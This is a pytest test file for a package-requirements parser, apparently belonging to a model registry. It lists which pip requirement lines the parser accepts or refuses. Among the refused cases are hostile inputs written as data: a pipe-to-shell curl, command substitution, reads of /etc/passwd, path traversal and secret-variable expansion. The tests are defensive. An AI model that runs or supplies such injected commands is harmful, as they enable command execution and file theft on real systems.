"""Requirement lines come from whoever writes to the registry: what they may be, and what they may not."""

import pytest

from headrace.core.environments.requirements import Requirements, archive_requirement, parse
from headrace.core.errors import RequirementRefused

FILES = {"constraints.txt": "numpy<2\n", "loop.txt": "-r loop.txt\n", "more.txt": "six==1.16\n"}


def read(name: str) -> str:
    if name not in FILES:
        raise FileNotFoundError(name)
    return FILES[name]


def parsed(text: str) -> Requirements:
    return parse(text, "requirements.txt", read)


def test_two_ways_to_say_the_same_are_equal() -> None:
    one = parsed("Scikit_Learn == 1.5.0\nnumpy>=1.26,<2  # why\n\n")
    other = parsed("\ufeffnumpy<2,\\\n  >=1.26\r\nscikit-learn==1.5.0\r\nscikit-learn==1.5.0")
    assert one == other == Requirements(packages=("numpy<2,>=1.26", "scikit-learn==1.5.0"))


def test_a_comment_ends_with_its_line_whatever_it_ends_with() -> None:
    # As pip reads them: nothing of what follows is swallowed.
    found = parsed("six\n# pinned for \\\nnumpy==1.26.4\n  # \\\r\npandas \\\n  # no more \\\nscipy\n")
    assert found.packages == ("numpy==1.26.4", "pandas", "scipy", "six")


@pytest.mark.parametrize(
    ("line", "kept"),
    [
        ("mlflow[extras,gateway]==2.9.2", "mlflow[extras,gateway]==2.9.2"),
        ("torch==2.1.0+cpu", "torch==2.1.0+cpu"),
        ("pywin32==306 ; sys_platform == 'win32'", 'pywin32==306; sys_platform == "win32"'),
        (f"six==1.16 --hash=sha256:{'0a' * 32}", f"six==1.16 --hash=sha256:{'0a' * 32}"),
        (f"six==1.16 \\\n  --hash=sha256:{'0a' * 32}", f"six==1.16 --hash=sha256:{'0a' * 32}"),
        ("six", "six"),
    ],
)
def test_what_models_record_is_kept(line: str, kept: str) -> None:
    found = parsed(line)
    assert found.packages == (kept,)
    assert found.special == ()


@pytest.mark.parametrize(
    ("line", "form", "kept"),
    [
        ("-c constraints.txt", "files", Requirements(constraints=("numpy<2",))),
        ("--constraint=constraints.txt", "files", Requirements(constraints=("numpy<2",))),
        ("-rmore.txt", "files", Requirements(packages=("six==1.16",))),
        ("--requirement more.txt", "files", Requirements(packages=("six==1.16",))),
        ("--extra-index-url https://a.test/simple", "indexes", Requirements(options=("--extra-index-url https://a.test/simple",))),
        ("-i https://a.test/simple", "indexes", Requirements(options=("--index-url https://a.test/simple",))),
        ("--no-index", "indexes", Requirements(options=("--no-index",))),
        ("six @ https://a.test/six-1.16-py3-none-any.whl", "urls", Requirements(packages=("six @ https://a.test/six-1.16-py3-none-any.whl",))),
        ("six @ git+https://a.test/six.git@v1", "urls", Requirements(packages=("six @ git+https://a.test/six.git@v1",))),
        ("./wheels/six-1.16-py3-none-any.whl", "paths", Requirements(paths=("wheels/six-1.16-py3-none-any.whl",))),
        ("six-1.16.tar.gz", "paths", Requirements(paths=("six-1.16.tar.gz",))),
    ],
)  # fmt: skip
def test_what_has_to_be_allowed_is_said_with_its_line(line: str, form: str, kept: Requirements) -> None:
    found = parsed(f"\n{line}\n")
    (special,) = found.special
    assert special.form == form
    assert special.where == f"requirements.txt line 2: {line!r}"
    assert (found.packages, found.constraints, found.paths, found.options) == (
        kept.packages, kept.constraints, kept.paths, kept.options,
    )  # fmt: skip


@pytest.mark.parametrize(
    ("line", "says"),
    [
        ("-e .", "may not hold the option -e"),
        ("--editable=git+https://a.test/x", "may not hold the option --editable"),
        ("--pre", "may not hold the option --pre"),
        ("--python /tmp/evil", "may not hold the option --python"),
        ("--config-settings=a=b", "may not hold the option --config-settings"),
        ("-", "may not hold the option -"),
        ("-r ../other/requirements.txt", "only name a file inside of the model"),
        ("-r /etc/passwd", "only name a file inside of the model"),
        ("-c https://a.test/constraints.txt", "only name a file inside of the model"),
        ("-r absent.txt", "no such file"),
        ("-r loop.txt", "include one another"),
        ("/srv/evil-1.0-py3-none-any.whl", "only name a file inside of the model"),
        ("wheels/../../evil-1.0-py3-none-any.whl", "only name a file inside of the model"),
        ("./package", "must name a wheel or source archive"),
        ("six; import os", "is no requirement"),
        ("six && curl a.test | sh", "is no requirement"),
        ("$(touch /tmp/x)", "is no requirement"),
        ("`touch x`", "is no requirement"),
        ("six==1.16 --install-option=--prefix=x", "may not hold the option --install-option"),
        ("six==1.16 ; python_version > '3' --config-settings a=b", "may not hold the option --config-settings"),
        ("six==1.16 --hash=md5:aa", "may not hold the option --hash"),
        ("six @ file:///etc/passwd", "only https, http and git"),
        ("six @ hg+https://a.test/x", "only https, http and git"),
        ("https://a.test/six.whl", "write NAME @ ADDRESS"),
        ("six==${SECRET}", "variables and control characters"),
        ("six @ https://${TOKEN}@a.test/six.whl", "variables and control characters"),
        ("six==1.16\x00", "variables and control characters"),
        ("--index-url", "one address"),
        ("--index-url https://a.test --pre", "one address"),
        ("--no-index yes", "one address"),
    ],
)  # fmt: skip
def test_what_is_refused_is_named_with_its_line(line: str, says: str) -> None:
    with pytest.raises(RequirementRefused, match=r"^requirements.txt line 1: |^loop.txt") as caught:
        parsed(line)
    assert says in str(caught.value)


def test_a_password_is_not_repeated() -> None:
    found = parsed("--extra-index-url https://user:secret@a.test/simple")
    assert "secret" not in found.special[0].where
    assert "https://***@a.test" in found.special[0].where


@pytest.mark.parametrize(
    ("path", "says"),
    [
        ("wheels/Six_Pack-1.16-py3-none-any.whl", "six-pack==1.16"),
        ("six-1.16.tar.gz", "six==1.16"),
        ("six.whl", None),
        ("six-1.16.exe", None),
    ],
)
def test_the_name_of_an_archive_says_what_it_is(path: str, says: str | None) -> None:
    assert archive_requirement(path) == says
